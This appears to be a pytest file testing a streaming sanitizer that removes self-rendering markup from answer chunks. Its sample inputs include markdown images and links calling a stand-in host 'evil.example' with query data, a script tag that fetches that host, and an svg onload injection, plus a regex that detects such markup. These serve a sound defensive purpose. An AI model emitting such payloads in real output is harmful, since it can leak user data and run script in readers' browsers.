"""Pieces of an answer on their way: nothing that draws itself, whatever the pieces are."""

from __future__ import annotations

import re

import pytest

from app.query.drawn import MAX_HELD, Drawn
from app.query.verify import inert

RAW = re.compile(r"!\[|<(?:img|script|svg|a)\b|\]\([^)]*\)", re.IGNORECASE)

TEXTS = (
    "See ![ok](https://evil.example/p.png?q=42.5) there.",
    "See [here](https://evil.example/?q=1) there [1].",
    "A <img src='https://evil.example/a'> and <a href=//evil.example>this</a>.",
    "<script>fetch('//evil.example')</script> done",
    "![a][b] ![unfinished](https://evil.example",
    "<svg onload=alert(1)",
    "!",
)
PLAIN = (
    "It is 3 < 4 and x <y [1]. See items[1] [2, 3]!",
    "Look! [1] What? <none of it> & so on\n\n- a\n- b",
    "",
)


def pieces_of(text, n):
    drawn = Drawn()
    return [*(drawn.push(text[at : at + n]) for at in range(0, len(text), n)), drawn.finish()]


@pytest.mark.parametrize("n", [1, 2, 3, 7, 1000])
@pytest.mark.parametrize("text", TEXTS)
def test_nothing_that_draws_itself_comes_out_in_any_pieces(text, n):
    shown = "".join(pieces_of(text, n))

    assert not RAW.search(shown)
    assert "evil.example/p" not in shown


@pytest.mark.parametrize("n", [1, 2, 3, 7, 1000])
@pytest.mark.parametrize("text", PLAIN)
def test_other_text_comes_out_as_it_is(text, n):
    assert "".join(pieces_of(text, n)) == text == inert(text)


def test_words_are_shown_as_soon_as_they_come():
    assert pieces_of("one two three", 4) == ["one ", "two ", "thre", "e", ""]


def test_what_never_ends_is_not_held_for_ever():
    drawn = Drawn()
    shown = "".join(drawn.push("<img " + "x" * 100) for _ in range(100))

    assert len(shown) > 100 * 105 - MAX_HELD - 200
    assert not RAW.search(shown + drawn.finish())
